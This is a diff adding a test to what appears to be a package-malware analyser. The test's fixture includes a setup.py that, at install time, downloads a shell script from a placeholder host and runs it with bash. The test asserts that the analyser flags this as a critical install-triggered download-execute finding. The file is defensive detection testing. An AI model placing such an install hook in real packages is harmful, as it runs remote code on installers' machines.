@@ -269,3 +269,32 @@ test('a network library sending through an object passed in is egress; a generat
   )[0];
   assert.equal(generator.egress, false);
 });
+
+test('setup.py running python -c "import pkg.post; pkg.post.run()" makes that function install-time; a downloaded script run is download-execute', async () => {
+  const report = await analyseTarget({
+    'demo-1.0/setup.py': [
+      'import subprocess',
+      'from setuptools import setup',
+      'subprocess.run(["python", "-c", "import demo.post; demo.post.run()"])',
+      'setup(name="demo")',
+    ].join('\n'),
+    'demo-1.0/demo/__init__.py': '',
+    'demo-1.0/demo/post.py': [
+      'import os, subprocess, urllib.request',
+      'def run():',
+      '    path = os.path.expanduser("~/stage.sh")',
+      '    urllib.request.urlretrieve("https://files.example/stage.sh", path)',
+      '    subprocess.run(["/bin/bash", path])',
+    ].join('\n'),
+  });
+  const post = report.files.find((file) => file.path === 'demo-1.0/demo/post.py');
+  const dropper = post?.findings.find((f) => f.rule === 'download-execute');
+  assert.equal(dropper?.trigger, 'install');
+  assert.equal(dropper?.severity, 'critical');
+  // a script the code writes itself (not downloaded) and runs is ordinary: no dropper finding
+  const local = findings(
+    'import subprocess\ndef gen():\n    open("build.sh", "w").write("make")\n    subprocess.run(["sh", "build.sh"])\n',
+  );
+  assert.equal(ruleOf(local, 'drop-and-run'), undefined);
+  assert.equal(ruleOf(local, 'download-execute'), undefined);
+});
